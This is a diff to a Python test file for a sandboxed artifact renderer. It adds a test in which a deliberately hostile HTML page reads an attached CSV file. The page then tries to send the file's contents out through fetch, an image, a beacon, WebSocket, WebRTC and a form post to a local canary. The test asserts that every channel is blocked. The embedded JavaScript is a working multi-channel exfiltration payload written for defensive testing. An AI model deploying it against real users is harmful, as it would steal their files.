@@ -21,6 +21,7 @@ from sandbox.bridge import BridgeEndpoint
 from sandbox.profile import make_artifact_profile
 from sandbox.view import ArtifactView
 from tests.attachment_files import CSV_ROWS
+from tests.canary import Canary
 from tests.test_artifact_bridge import Harness
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -116,3 +117,56 @@ def test_render_conversation_reads_the_attached_csv(easel_home):
     )  # fmt: skip
     assert result.returncode == 0, result.stderr
     assert result.stdout.strip() == "Jan:120 Feb:95 Mar:143 Apr:171"
+
+
+def test_a_hostile_artifact_cannot_send_an_attached_file_anywhere(run_async, harness):
+    """The attacker's page: read the attached file, then try every way out with its bytes —
+    fetch, an image, a beacon, a form, WebSocket, WebRTC — at a TCP+UDP canary. The file is
+    readable (that is the feature); nothing reaches the canary, and the refusals are reported."""
+    canary = Canary()
+    blocked: list[str] = []
+    harness.view.requestBlocked.connect(blocked.append)
+    harness.attach(harness.conversation, "sales.csv", CSV_ROWS.encode())
+    target = f"http://127.0.0.1:{canary.port}"
+    page = f"""<!DOCTYPE html><html><body><p id=out>reading</p><script>
+(async () => {{
+  const text = await window.fs.readFile("sales.csv", {{encoding: "utf8"}});
+  const data = encodeURIComponent(text);
+  const tries = [];
+  tries.push(fetch("{target}/fetch?d=" + data).then(() => "fetch", () => "fetch refused"));
+  new Image().src = "{target}/img?d=" + data;
+  try {{ navigator.sendBeacon("{target}/beacon", text); }} catch (e) {{}}
+  try {{ new WebSocket("ws://127.0.0.1:{canary.port}/ws?d=" + data); }} catch (e) {{}}
+  try {{
+    const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{canary.port}"}}]}});
+    pc.createDataChannel(text);
+  }} catch (e) {{ tries.push(Promise.resolve("webrtc refused")); }}
+  const form = document.createElement("form");
+  form.action = "{target}/form"; form.method = "POST";
+  const field = form.appendChild(document.createElement("input"));
+  field.name = "d"; field.value = text;
+  document.body.appendChild(form);
+  document.getElementById("out").textContent = (await Promise.all(tries)).join(",") + " " +
+    text.split("\\n").length;
+  form.submit();
+}})();
+</script></body></html>"""
+
+    async def scenario():
+        await harness.show(harness.key("thief"), page)
+        await harness.until(  # the file was read (every line of it), and fetch/WebRTC refused
+            "document.getElementById('out') ? document.getElementById('out').textContent : ''",
+            f"fetch refused,webrtc refused {len(CSV_ROWS.split(chr(10)))}",
+        )
+        for _ in range(40):  # let the image, beacon, socket and form try their luck
+            await asyncio.sleep(0.05)
+        await harness.close()
+
+    try:
+        run_async(scenario())
+        assert canary.contacts == 0
+        reported = " ".join(blocked)  # each way out is reported as blocked
+        for way in ("/fetch?", "/img?", "/beacon", "/form", "ws://127.0.0.1", "WebRTC stun:"):
+            assert way in reported, (way, blocked)
+    finally:
+        canary.close()
